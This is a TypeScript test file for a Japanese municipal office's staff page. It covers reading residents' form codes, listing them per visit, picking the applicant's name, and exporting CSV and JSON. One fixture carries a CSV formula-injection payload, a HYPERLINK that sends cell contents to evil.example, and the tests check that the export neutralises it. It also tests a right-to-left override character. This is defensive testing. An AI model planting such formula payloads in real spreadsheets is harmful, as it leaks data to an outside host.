import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { currentForms, findForm } from '../../src/domain/forms'
import type { Answers } from '../../src/domain/forms/types'
import { validateAnswers } from '../../src/domain/forms/validate'
import { applicationCsv, applicationJson } from '../../src/domain/forms/present'
import { encodePayload } from '../../src/domain/payload'
import { ScanSession } from '../../src/domain/scan/session'
import { Visit, pickName, visitCsv, visitJson } from '../../src/domain/scan/visit'
import { VISIT_APPLICATIONS } from '../fixtures/visit-applications'
import { loadForms } from '../../src/content/registry'

const forms = await loadForms()
const form = (id: keyof typeof VISIT_APPLICATIONS) => findForm(forms, id, 1)!
const parse = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data

/** Reads a code as the staff page does: the session gives the application and its whole code. */
function read(session: ScanSession, parts: string[]) {
  let last
  for (const part of parts) last = session.add(part)
  if (last?.kind !== 'application') throw new Error(`not an application: ${JSON.stringify(last)}`)
  return last
}

describe('the fixture applications', () => {
  it('pass their forms\' rules (what a resident can show)', () => {
    for (const [id, answers] of Object.entries(VISIT_APPLICATIONS)) expect(validateAnswers(form(id as keyof typeof VISIT_APPLICATIONS), answers), id).toEqual([])
  })
})

describe('a visit: the applications read in one session of the staff page', () => {
  const session = new ScanSession(forms)
  const codes = (['jumin-hyo', 'jumin-ido', 'koseki-shomei'] as const).map((id) => encodePayload(form(id), VISIT_APPLICATIONS[id]))

  it('lists each application in the order read, with when and whose', () => {
    const visit = new Visit()
    for (const [i, parts] of codes.entries()) {
      const r = read(session, parts)
      expect(visit.add(r.code, r.application, 1000 + i)).toEqual({ index: i, added: true })
    }
    expect(visit.entries.map((e) => e.application.formId)).toEqual(['jumin-hyo', 'jumin-ido', 'koseki-shomei'])
    expect(visit.entries.map((e) => e.readAt)).toEqual([1000, 1001, 1002])
    expect(visit.entries.map((e) => e.person?.value)).toEqual(['山田 花子', '髙橋 太郎', '山田 一郎'])
  })

  it('a code read again is recognised, not listed twice, and keeps its first time and place', () => {
    const visit = new Visit()
    for (const parts of codes) {
      const r = read(session, parts)
      visit.add(r.code, r.application, 1)
    }
    const before = visit.entries
    const again = read(session, codes[0]!)
    expect(visit.add(again.code, again.application, 99)).toEqual({ index: 0, added: false })
    expect(visit.entries).toHaveLength(3)
    expect(visit.entries[0]!.readAt).toBe(1)
    expect(visit.entries).toEqual(before)
    // the same code typed in full-width digits (a scanner behind an IME) is the same code
    const wide = read(session, codes[1]!.map((p) => p.replace(/\d/g, (d) => String.fromCharCode(d.charCodeAt(0) + 0xfee0))))
    expect(visit.add(wide.code, wide.application, 99)).toEqual({ index: 1, added: false })
  })

  it('the same answers sent again by another draft is the same code; different answers are another application', () => {
    const visit = new Visit()
    const a = read(session, encodePayload(form('jumin-hyo'), VISIT_APPLICATIONS['jumin-hyo']))
    const b = read(session, encodePayload(form('jumin-hyo'), { ...VISIT_APPLICATIONS['jumin-hyo'], copies: 3 }))
    expect(visit.add(a.code, a.application, 1).added).toBe(true)
    expect(visit.add(b.code, b.application, 2).added).toBe(true)
    expect(visit.entries).toHaveLength(2)
  })

  it('a code of several parts is one entry, whichever order its parts were read in', () => {
    const parts = encodePayload(form('jumin-ido'), VISIT_APPLICATIONS['jumin-ido'], { maxDigitsPerPart: 300 })
    expect(parts.length).toBeGreaterThan(1)
    const visit = new Visit()
    const forwards = read(new ScanSession(forms), parts)
    const backwards = read(new ScanSession(forms), [...parts].reverse())
    expect(backwards.code).toBe(forwards.code)
    visit.add(forwards.code, forwards.application, 1)
    expect(visit.add(backwards.code, backwards.application, 2).added).toBe(false)
  })

  it('clear empties it; the next resident starts a new list', () => {
    const visit = new Visit()
    const r = read(session, codes[0]!)
    visit.add(r.code, r.application, 1)
    visit.clear()
    expect(visit.entries).toEqual([])
    expect(visit.add(r.code, r.application, 2)).toEqual({ index: 0, added: true })
  })
})

describe('whose application: the name picked from each shipped form\'s data', () => {
  const expected: Record<string, { label: string; value: string }> = {
    'jumin-hyo': { label: '窓口に来る人（請求者）の氏名', value: '山田 花子' },
    'jumin-ido': { label: '異動する人 1人目 氏名', value: '髙橋 太郎' },
    'koseki-shomei': { label: '請求者の氏名', value: '山田 一郎' },
    'inkan-toroku': { label: '氏名', value: '佐藤 次郎' },
    'inkan-shomei': { label: '登録している人の氏名', value: '佐藤 次郎' },
    'zei-shomei': { label: '証明が必要な人の氏名', value: '鈴木 美咲' },
    'kokuho-shikaku': { label: '世帯主の氏名', value: '田中 一郎' },
    'kokumin-nenkin': { label: '氏名', value: '田中 一郎' },
    'kaigo-soshitsu': { label: '届出人の氏名', value: '山本 和子' },
    'koki-soshitsu': { label: '届出人の氏名', value: '山本 清' },
    'inu-toroku': { label: '飼い主の氏名', value: '髙橋 太郎' },
    tennyugaku: { label: '保護者の氏名', value: '髙橋 花子' },
    'kodomo-iryohi': { label: '保護者（申請者）の氏名', value: '鈴木 美咲' },
    'jido-teate': { label: '請求者の氏名', value: '鈴木 美咲' },
    'shussan-ikuji': { label: '世帯主の氏名', value: '鈴木 健' },
    sosaihi: { label: '申請者（喪主）の氏名', value: '山田 花子' },
  }

  it('every shipped form has a name to list it under (a new form without one fails here)', () => {
    for (const f of currentForms(forms)) {
      const answers = VISIT_APPLICATIONS[f.id as keyof typeof VISIT_APPLICATIONS]
      expect(answers, `${f.id}: add a fixture application`).toBeDefined()
      expect(pickName(f, answers), f.id).toEqual(expected[f.id])
    }
  })

  it('the requester, not the person the certificate is for (住民票の写し: 請求者 ≠ 必要な人)', () => {
    expect(pickName(form('jumin-hyo'), VISIT_APPLICATIONS['jumin-hyo'])?.value).not.toBe(VISIT_APPLICATIONS['jumin-hyo'].subjectName)
  })

  it('a person with no name yet is skipped; nothing named gives undefined, never a wrong field', () => {
    const ido = form('jumin-ido')
    const persons = structuredClone(VISIT_APPLICATIONS['jumin-ido'].persons) as Answers[]
    persons[0]!.name = ' '
    expect(pickName(ido, { ...VISIT_APPLICATIONS['jumin-ido'], persons })).toEqual({ label: '異動する人 2人目 氏名', value: '髙橋 花子' })
    expect(pickName(ido, { ...VISIT_APPLICATIONS['jumin-ido'], persons: [] })).toBeUndefined()
    expect(pickName(form('inkan-toroku'), { ...VISIT_APPLICATIONS['inkan-toroku'], name: '' })).toBeUndefined()
  })

  it('invisible characters in a name are written out, as in the replica', () => {
    expect(pickName(form('inkan-toroku'), { ...VISIT_APPLICATIONS['inkan-toroku'], name: '佐藤\u202E 次郎' })?.value).toBe('佐藤⟨U+202E⟩ 次郎')
  })
})

describe('exporting a whole visit', () => {
  const session = new ScanSession(forms)
  const visit = new Visit()
  const ids = ['jumin-hyo', 'jumin-ido', 'koseki-shomei'] as const
  for (const [i, id] of ids.entries()) {
    const answers = id === 'koseki-shomei' ? { ...VISIT_APPLICATIONS[id], hittousha: '=HYPERLINK("http://evil.example/?"&A1)', requesterName: '@SUM(1+1)' } : VISIT_APPLICATIONS[id]
    const r = read(session, encodePayload(form(id), answers))
    visit.add(r.code, r.application, Date.UTC(2026, 10, 28, 1, 2, i))
  }

  it('one CSV: every application\'s lines, numbered in list order, through the one writer', () => {
    const csv = visitCsv(visit.entries)
    expect(csv.startsWith('\uFEFF申請番号,読み取り日時,項目ID,項目,値,値（コード）\r\n')).toBe(true)
    const rows = parse(csv)
    const formRows = rows.filter((r) => r[2] === 'formId')
    expect(formRows.map((r) => [r[0], r[1], r[4]])).toEqual([
      ['1', '2026-11-28T01:02:00.000Z', '住民票の写し等交付申請書'],
      ['2', '2026-11-28T01:02:01.000Z', '住民異動届'],
      ['3', '2026-11-28T01:02:02.000Z', '戸籍証明書等交付申請書'],
    ])
    // each application's lines are exactly its single export's, after the two added columns
    for (const [i, e] of visit.entries.entries()) {
      const single = parse(applicationCsv(e.application.form, e.application.answers)).slice(1)
      expect(rows.filter((r) => r[0] === String(i + 1)).map((r) => r.slice(2))).toEqual(single)
    }
    expect(rows.find((r) => r[2] === 'persons.2.name')?.[4]).toBe('髙橋 花子')
  })

  it('formula cells are neutralised in the combined CSV', () => {
    const rows = parse(visitCsv(visit.entries))
    expect(rows.find((r) => r[2] === 'hittousha')?.slice(4)).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'])
    expect(rows.find((r) => r[2] === 'requesterName' && r[0] === '3')?.[4]).toBe("'@SUM(1+1)")
    for (const line of visitCsv(visit.entries).split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@\t\r＝＋＠]/)
  })

  it('one JSON: every application as the single export writes it, in list order', () => {
    const data = JSON.parse(visitJson(visit.entries, '2026-11-28T01:10:00.000Z'))
    expect(data.exportedAt).toBe('2026-11-28T01:10:00.000Z')
    expect(data.count).toBe(3)
    expect(data.applications.map((a: { formId: string }) => a.formId)).toEqual([...ids])
    for (const [i, e] of visit.entries.entries()) {
      expect(data.applications[i]).toEqual(JSON.parse(applicationJson(e.application.form, e.application.answers, new Date(e.readAt).toISOString())))
    }
    expect(data.applications[1].answers).toEqual(VISIT_APPLICATIONS['jumin-ido'])
  })

  it('an empty visit exports a header only and an empty list', () => {
    expect(parse(visitCsv([]))).toEqual([['申請番号', '読み取り日時', '項目ID', '項目', '値', '値（コード）']])
    expect(JSON.parse(visitJson([], 'x')).applications).toEqual([])
  })
})
